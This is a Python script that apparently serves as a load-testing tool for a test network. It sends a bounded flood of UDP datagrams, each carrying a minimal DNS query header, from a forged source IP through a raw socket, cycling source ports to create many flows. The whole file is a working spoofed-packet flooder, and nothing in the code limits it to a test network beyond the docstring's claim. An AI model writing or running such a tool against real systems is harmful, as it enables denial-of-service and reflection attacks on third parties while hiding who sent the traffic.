#!/usr/bin/env python3
"""A bounded UDP flood for the test network: COUNT datagrams from the spoofed address SRC
(one the test network routes but nobody holds, so the real servers' answers go nowhere) to
DST:PORT, each from its own source port (a new flow each, up to 64 000), through a raw IPv4
socket. Stops after COUNT datagrams or SECONDS, whichever comes first.

usage: udp_flood.py SRC DST PORT COUNT SECONDS
"""
import socket
import struct
import sys
import time

# A DNS query header with no question: the test network's responders answer anything.
PAYLOAD = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"


def datagram(src: bytes, dst: bytes, sport: int, dport: int) -> bytes:
    # UDP checksum 0 (none), which IPv4 allows.
    udp = struct.pack("!HHHH", sport, dport, 8 + len(PAYLOAD), 0) + PAYLOAD
    # The kernel fills in the IP checksum and, with id 0, the identification.
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, socket.IPPROTO_UDP, 0, src, dst
    )
    return ip + udp


def main() -> int:
    if len(sys.argv) != 6:
        print(__doc__, file=sys.stderr)
        return 2
    src, dst = socket.inet_aton(sys.argv[1]), socket.inet_aton(sys.argv[2])
    port, count, seconds = int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    end = time.monotonic() + seconds
    sent = 0
    for i in range(count):
        if i % 256 == 0 and time.monotonic() > end:
            break
        try:
            s.sendto(datagram(src, dst, 1024 + i % 64000, port), (sys.argv[2], 0))
            sent += 1
        except OSError:
            # A full socket buffer: give the link a moment.
            time.sleep(0.001)
    print(f"sent {sent} datagrams")
    return 0


if __name__ == "__main__":
    sys.exit(main())
